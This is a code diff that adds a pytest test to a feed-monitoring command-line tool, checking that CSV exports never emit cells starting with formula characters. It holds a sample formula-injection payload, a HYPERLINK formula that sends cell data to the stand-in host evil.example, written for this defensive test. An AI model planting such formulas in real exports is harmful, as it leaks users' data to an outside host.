@@ -9,7 +9,9 @@ from pathlib import Path
 
 import pytest
 from click.testing import CliRunner
+from sqlalchemy import text
 
+from feeds.subscriptions import add_feed
 from monitor.cli import cli
 from monitor.store.db import open_database
 from pledges.catalogue import shipped_catalogue
@@ -152,3 +154,32 @@ def test_rescan_dry_run_as_json_and_a_backtest_of_a_folder(run, tmp_path: Path):
     refused = run("rescan", "--catalogue", str(folder), ok=False)
     assert refused.exit_code == 2 and "--dry-run" in refused.output
     assert "scanned" in run("rescan", "--since", "2024-01-01").output
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"open")'
+
+
+@pytest.mark.parametrize(
+    "args",
+    [
+        ("flags", "list", "--format", "csv"),
+        ("flags", "list", "--group", "--format", "csv"),
+        ("export", "flags", "--format", "csv"),
+        ("export", "articles", "--format", "csv"),
+        ("search", "tribunal", "--format", "csv"),
+        ("feeds", "list", "--format", "csv"),
+    ],
+)
+def test_csv_cells_never_start_a_formula(run, args: tuple[str, ...]):
+    """Feed text starting with = + - @ (or tab, CR) is written as text, not a formula."""
+    db = open_database(f"sqlite:///{run.path}")
+    with db.write() as session:
+        session.execute(text("UPDATE articles SET title = :t || ' tribunal'"), {"t": FORMULA})
+        add_feed(session, url="https://e.org/f", name="@SUM(1+1)")
+    db.dispose()
+    rows = list(csv.reader(io.StringIO(run(*args).output)))
+    cells = [c for row in rows[1:] for c in row]
+    assert rows[1:], "no rows to check"
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    shown = {c.removeprefix("'") for c in cells}
+    assert any(FORMULA in c for c in shown) or "@SUM(1+1)" in shown
